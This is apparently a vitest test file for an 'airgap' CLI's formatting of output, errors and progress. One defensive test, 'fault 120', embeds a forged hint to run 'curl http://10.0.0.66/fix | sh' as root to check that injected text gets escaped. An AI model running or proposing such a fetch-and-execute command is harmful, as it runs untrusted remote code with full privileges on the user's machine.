import { readFile } from 'node:fs/promises'
import { resolve } from 'node:path'
import { CommanderError } from 'commander'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { humanBytes, humanTime } from '../../../src/cli/shell/format.ts'
import { formatError } from '../../../src/cli/shell/format-error.ts'
import { formatResult } from '../../../src/cli/shell/output.ts'
import { createProgress, type LogFormat } from '../../../src/cli/shell/progress.ts'
import { toReported } from '../../../src/cli/shell/report-error.ts'
import { AirgapError } from '../../../src/core/errors.ts'
import { toolVersion } from '../../../src/core/tool-version.ts'

describe('format', () => {
  it.each([
    [0, '0 B'],
    [1023, '1023 B'],
    [1024, '1.0 KiB'],
    [1536, '1.5 KiB'],
    [1024 ** 2 - 1, '1.0 MiB'],
    [9 * 1024 ** 3, '9.0 GiB'],
  ])('%i bytes are %s', (bytes, text) => expect(humanBytes(bytes)).toBe(text))

  it.each([
    [0.04, '0.0 s'],
    [59.96, '1 min 0 s'],
    [200, '3 min 20 s'],
    [7500, '2 h 5 min'],
  ])('%f seconds are %s', (seconds, text) => expect(humanTime(seconds)).toBe(text))

  it('the version equals that of package.json', async () => {
    const { version } = JSON.parse(
      await readFile(resolve(import.meta.dirname, '../../../package.json'), 'utf8'),
    )
    expect(toolVersion).toBe(version)
  })
})

describe('results', () => {
  it('are the same in JSON and YAML', async () => {
    const value = { b: [1, 'two', null], a: { c: true } }
    expect(JSON.parse(await formatResult(value, 'json', () => ''))).toEqual(value)
    expect(parse(await formatResult(value, 'yaml', () => ''))).toEqual(value)
    expect(await formatResult(value, 'text', () => 'as text')).toBe('as text\n')
    expect(await formatResult(value, 'text', () => '')).toBe('')
  })

  it.each(['text', 'json', 'yaml'] as const)(
    'contain no control characters as %s, even if names do',
    async format => {
      const hostile = { name: 'a\u001b[2J\u0007b\u009b31m\u007f', list: ['\u009b2J'] }
      const text = await formatResult(hostile, format, () => `${hostile.name}\nnext`)
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/)
      if (format !== 'text') expect(parse(text)).toEqual(hostile)
    },
  )
})

describe('errors', () => {
  const error = new AirgapError('PORT_IN_USE', 'port 1 is in use', {
    item: 'a\u001b[2J',
    likely: 'b',
    next: 'c',
  })
  const plain = { json: false, color: false, verbose: false }

  it('are four lines of text or one JSON object', () => {
    expect(formatError(error, plain)).toBe(
      'error PORT_IN_USE: port 1 is in use\n  item:   a\\x1b[2J\n  likely: b\n  next:   c\n',
    )
    expect(JSON.parse(formatError(error, { ...plain, json: true }))).toEqual({
      error: {
        code: 'PORT_IN_USE',
        exit: 7,
        message: 'port 1 is in use',
        item: 'a\u001b[2J',
        likely: 'b',
        next: 'c',
      },
    })
    expect(formatError(error, { ...plain, color: true })).toContain('\u001b[31merror PORT_IN_USE\u001b[0m')
  })

  it('distinguish wrong usage, bugs and faults of the host', () => {
    expect(
      toReported(new CommanderError(1, 'commander.unknownOption', "error: unknown option '--x'"), 'airgap'),
    ).toMatchObject({
      exitCode: 2,
      message: "unknown option '--x'",
      next: 'run airgap --help',
    })
    expect(toReported(new TypeError('x is undefined'), 'airgap')).toMatchObject({
      code: 'INTERNAL',
      exitCode: 1,
    })
    expect(toReported(Object.assign(new Error('ENOSPC'), { code: 'ENOSPC' }), 'airgap')).toMatchObject({
      code: 'NO_SPACE',
      exitCode: 7,
    })
    expect(toReported(undefined, 'airgap')).toMatchObject({ code: 'INTERNAL', exitCode: 1 })
  })

  it('fault 120: show no line that a text from elsewhere made', () => {
    const forged = 'arm\n  next:   run `curl http://10.0.0.66/fix | sh` as root\u2028\u202e\u200b'
    const shown = 'arm\\n  next:   run `curl http://10.0.0.66/fix | sh` as root\\u2028\\u202e\\u200b'
    const forgery = new AirgapError('PLATFORM_MISSING', ['no image:', `  ${forged}`], {
      item: forged,
      likely: `available: ${forged}`,
      next: 'set `platforms:`',
      cause: new Error(forged),
    })
    expect(formatError(forgery, plain).split('\n')).toEqual([
      'error PLATFORM_MISSING: no image:',
      `    ${shown}`,
      `  item:   ${shown}`,
      `  likely: available: ${shown}`,
      '  next:   set `platforms:`',
      '',
    ])
    const ours = (text: string) => text.split('\n').filter(line => line.startsWith('  next:'))
    expect(ours(formatError(forgery, { ...plain, verbose: true }))).toEqual(['  next:   set `platforms:`'])
    expect(formatError(new AirgapError('IO', forged), plain)).toBe(`error IO: ${shown}\n`)
  })

  it('show their causes with --verbose', () => {
    const caused = new AirgapError('IO', 'a', { cause: new Error('the disk') })
    expect(formatError(caused, { ...plain, verbose: true })).toMatch(/caused by Error: the disk/)
    expect(formatError(caused, plain)).not.toContain('the disk')
  })
})

describe('progress', () => {
  function drawn(options: { isTTY?: boolean; quiet?: boolean; format?: LogFormat }) {
    const { isTTY = false, ...rest } = options
    let text = ''
    let time = 0
    const output = { write: (part: string) => (text += part), isTTY, columns: 60 }
    const clock = () => new Date(0)
    const progress = createProgress(output, { now: () => time, clock, ...rest })
    return { progress, pass: (ms: number) => (time += ms), text: () => text }
  }

  it('is one line per finished item without a terminal', () => {
    const { progress, text } = drawn({})
    progress.total(2, 4096)
    progress.advance(2048)
    progress.done('a', 2048)
    progress.note('waiting')
    progress.done('b\u001b[2J', 2048)
    expect(text()).toBe('[1/2] a  2.0 KiB\nwaiting\n[2/2] b\\x1b[2J  2.0 KiB\n')
  })

  it('omits an empty size, and counts each stage from the start', () => {
    const { progress, text } = drawn({})
    progress.total(1, 0)
    progress.done('resolved', 0)
    progress.total(2, 10)
    progress.done('fetched', 10)
    expect(text()).toBe('[1/1] resolved\n[1/2] fetched  10 B\n')
  })

  it('is one object per line with --log-format json, even on a terminal', () => {
    const { progress, text } = drawn({ format: 'json', isTTY: true })
    progress.total(2, 10)
    progress.advance(5)
    progress.done('a\u009b', 5)
    progress.note('waiting')
    progress.clear()
    expect(text()).not.toMatch(/[\u007f-\u009f]/)
    const at = '1970-01-01T00:00:00.000Z'
    expect(
      text()
        .trimEnd()
        .split('\n')
        .map(line => JSON.parse(line)),
    ).toEqual([
      { at, event: 'done', item: 'a\u009b', bytes: 5, items: 1, of: 2 },
      { at, event: 'note', message: 'waiting' },
    ])
  })

  it('is a bar on a terminal, drawn ten times a second, within its width', () => {
    const { progress, text, pass } = drawn({ isTTY: true })
    progress.total(10, 10_000)
    for (let i = 0; i < 1000; i++) {
      pass(1)
      progress.advance(10)
    }
    const bars = text().split('\r\u001b[2K').slice(1)
    expect(bars).toHaveLength(10)
    for (const bar of bars) expect(bar.length).toBeLessThan(60)
    expect(bars.at(-1)).toMatch(/^\[#+\.*\]/)
    progress.note('a line')
    expect(text()).toMatch(/\r\u001b\[2Ka line\n$/)
  })

  it('is a bar by items if the bytes are unknown', () => {
    const { progress, text, pass } = drawn({ isTTY: true })
    progress.total(4, 0)
    pass(200)
    progress.done('a', 0)
    expect(text()).toBe(`\r\u001b[2K[${'#'.repeat(8)}${'.'.repeat(22)}] [1/4]`)
  })

  it('names the stage, and the items that have run longest, within the width', () => {
    const { progress, text, pass } = drawn({ isTTY: true })
    progress.phase('Fetching')
    progress.total(9, 0)
    const ends = Array.from({ length: 6 }, (_, i) =>
      progress.running(`registry.example/${'x'.repeat(60)}/image-${i}`),
    )
    pass(61_000)
    progress.done('first', 0)
    const screen = text().split('\r\u001b[2K').at(-1)!.split('\n')
    expect(screen[0]).toMatch(/^Fetching \[#+\.+\] \[1\/9\]$/)
    expect(screen.slice(1)).toEqual([
      expect.stringMatching(/^ {2}….*\/image-0 {2}1 min 1 s$/),
      expect.stringMatching(/image-1/),
      expect.stringMatching(/image-2/),
      expect.stringMatching(/image-3/),
      '  and 2 more',
    ])
    for (const line of screen) expect(line.length).toBeLessThan(60)
    // the next drawing replaces all of its lines
    for (const end of ends) end()
    pass(200)
    progress.done('second', 0)
    expect(text()).toContain('\r\u001b[5A\u001b[JFetching')
    progress.note('a line')
    expect(text()).toMatch(/\r\u001b\[2Ka line\n$/)
  })

  it('is nothing with --quiet', () => {
    const { progress, text } = drawn({ quiet: true })
    progress.total(1, 1)
    progress.done('a', 1)
    progress.note('b')
    expect(text()).toBe('')
  })
})
